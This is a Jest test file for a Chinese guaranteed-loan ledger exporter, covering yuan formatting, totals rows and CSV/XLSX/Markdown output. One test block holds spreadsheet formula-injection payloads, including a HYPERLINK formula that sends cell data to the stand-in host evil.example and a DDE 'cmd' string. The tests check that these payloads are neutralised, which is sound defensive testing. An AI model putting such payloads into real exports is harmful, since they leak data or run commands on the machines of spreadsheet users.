import ExcelJS from 'exceljs';
import { BULLETIN_COLUMNS, LEDGER_LAYOUTS, toCsv, toMarkdown, toXlsx, yuanText } from '../src';

const layout = LEDGER_LAYOUTS.business;
const rows = [
  {
    loan_id: 'A',
    categories: ['woman', 'college_graduate'],
    project_name: 'Tea, "green"',
    disbursed_amount: 5_000_001,
    contract_rate_bp: 831,
    status: 'disbursed',
  },
  { loan_id: 'B', categories: ['other'], project_name: '养猪', disbursed_amount: 99, contract_rate_bp: null, status: 'settled' },
];

describe('exports laid out like the paper ledgers', () => {
  it('writes money as exact yuan with two decimals', () => {
    expect([yuanText(5_000_001), yuanText(99), yuanText(-5), yuanText(0)]).toEqual(['50000.01', '0.99', '-0.05', '0.00']);
  });

  it('CSV: Chinese headers, quoted fields, a BOM for Excel', () => {
    const csv = toCsv(layout.columns, rows);
    expect(csv.startsWith('\uFEFF贷款编号,身份证号,人员类别')).toBe(true);
    const [, first, second] = csv.split('\r\n');
    expect(first).toContain('A,,woman、college_graduate,,"Tea, ""green"""');
    expect(first).toContain(',50000.01,');
    expect(first).toContain(',8.31%,');
    expect(second).toContain(',0.99,');
  });

  it('XLSX: title, headers, rows and a totals row', async () => {
    const buffer = await toXlsx(layout.title, '2011-06', layout.columns, rows);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(buffer as never);
    const sheet = book.worksheets[0];
    expect(sheet.getCell(1, 1).value).toBe('担保业务管理台账');
    expect(sheet.getCell(3, 1).value).toBe('贷款编号');
    const amountColumn = layout.columns.findIndex((c) => c.key === 'disbursed_amount') + 1;
    expect(sheet.getCell(4, amountColumn).value).toBe(50_000.01);
    expect(sheet.getCell(6, 1).value).toBe('合计');
    expect(sheet.getCell(6, amountColumn).value).toBe(50_001);
  });

  const sheetOf = async (buffer: Buffer) => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(buffer as never);
    return book.worksheets[0];
  };

  it('XLSX: the 合计 row adds only what adds: flows and per-record amounts and counts, never a running balance', async () => {
    const movements = LEDGER_LAYOUTS['fund-movements'];
    const lines = [
      { fund_id: 'GC-360721', seq: 1, kind: 'contribution', cash_in: 100_000_00, cash_out: 0, balance_after: 100_000_00 },
      { fund_id: 'GC-360721', seq: 2, kind: 'compensation', cash_in: 0, cash_out: 30_000_00, balance_after: 70_000_00 },
    ];
    const sheet = await sheetOf(await toXlsx(movements.title, '全部', movements.columns, lines));
    const column = (key: string) => movements.columns.findIndex((c) => c.key === key) + 1;
    expect(sheet.getCell(6, 1).value).toBe('合计');
    expect([sheet.getCell(6, column('cash_in')).value, sheet.getCell(6, column('cash_out')).value]).toEqual([100_000, 30_000]);
    expect(sheet.getCell(6, column('balance_after')).value).toBeNull(); // 170,000 would be no balance at all
    expect(sheet.getCell(6, column('seq')).value).toBeNull();
    const loans = await sheetOf(await toXlsx(layout.title, '全部', layout.columns, [{ persons_supported: 2 }, { persons_supported: 3 }]));
    expect(loans.getCell(6, layout.columns.findIndex((c) => c.key === 'persons_supported') + 1).value).toBe(5);
  });

  it('XLSX: the bulletin has no 合计 row: its province row is the total, and adding its cities and counties to it would count each loan three times', async () => {
    const region = (name: string, amount: number) => ({ region: name, month_loans: 39, month_amount: amount, outstanding: amount });
    const rows = [region('江西省 (360000)', 195_000_000), region('赣州市 (360700)', 195_000_000), region('赣县 (360721)', 195_000_000)];
    const sheet = await sheetOf(await toXlsx('全省小额担保贷款月报', '2011-06', BULLETIN_COLUMNS, rows));
    const cells = [4, 5, 6, 7].map((r) => sheet.getCell(r, 1).value);
    expect(cells).toEqual(['江西省 (360000)', '赣州市 (360700)', '赣县 (360721)', null]);
    expect(sheet.getCell(4, BULLETIN_COLUMNS.findIndex((c) => c.key === 'month_amount') + 1).value).toBe(1_950_000);
  });

  const hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', "-2+3+cmd|' /C calc'!A0", '@SUM(1,1)', '\t=1+1', '\r=1+1'];
  const injected = hostile.map((name, i) => ({
    loan_id: `L${i}`,
    categories: i === 0 ? ['=1+1', 'woman'] : ['woman'],
    project_name: name,
    disbursed_amount: -5,
    contract_rate_bp: -831,
    status: 'disbursed',
  }));

  it('CSV: text a spreadsheet would take for a formula starts with a quote; figures, negative ones too, stay figures', () => {
    const [, ...lines] = toCsv(layout.columns, injected).split('\r\n');
    const names = layout.columns.findIndex((c) => c.key === 'project_name');
    expect(lines[0].split(',')[2]).toBe("'=1+1、woman");
    expect(lines[0]).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`); // quoted: it has commas
    expect(lines[1].split(',')[names]).toBe("'+1+1");
    expect(lines[2].split(',')[names]).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(lines[3]).toContain(`,"'@SUM(1,1)",`);
    expect(lines[4].split(',')[names]).toBe("'\t=1+1");
    expect(lines[5]).toContain(`,"'\r=1+1",`);
    for (const line of lines.slice(0, 6)) {
      expect(line).toContain(',-0.05,');
      expect(line).toContain(',-8.31%,');
    }
    // A negative count in the bulletin (a rank that fell) is a number, not text.
    const bulletin = toCsv(BULLETIN_COLUMNS, [{ region: '=cmd', rank_change: -2 }])
      .split('\r\n')[1]
      .split(',');
    expect(bulletin[0]).toBe("'=cmd");
    expect(bulletin[BULLETIN_COLUMNS.findIndex((c) => c.key === 'rank_change')]).toBe('-2');
    // Ordinary text is as it was.
    expect(toCsv(layout.columns, rows).split('\r\n')[1]).toContain(',"Tea, ""green""",');
  });

  it('XLSX: such text is a plain string cell, never a formula; figures are numbers', async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await toXlsx(layout.title, '全部', layout.columns, injected)) as never);
    const sheet = book.worksheets[0];
    const names = layout.columns.findIndex((c) => c.key === 'project_name') + 1;
    const amounts = layout.columns.findIndex((c) => c.key === 'disbursed_amount') + 1;
    hostile.forEach((name, i) => {
      const cell = sheet.getCell(4 + i, names);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      // Shown as the text it is (a quote here would only be a stray character); XML reads a carriage return as a line feed.
      expect(cell.value).toBe(name.replace('\r', '\n'));
      expect(sheet.getCell(4 + i, amounts).value).toBe(-0.05);
    });
  });

  it('Markdown: a table with right-aligned figures', () => {
    const md = toMarkdown(layout.title, layout.columns.slice(0, 2), rows);
    expect(md.split('\n').slice(0, 5)).toEqual(['## 担保业务管理台账', '', '| 贷款编号 | 身份证号 |', '| --- | --- |', '| A |  |']);
  });
});
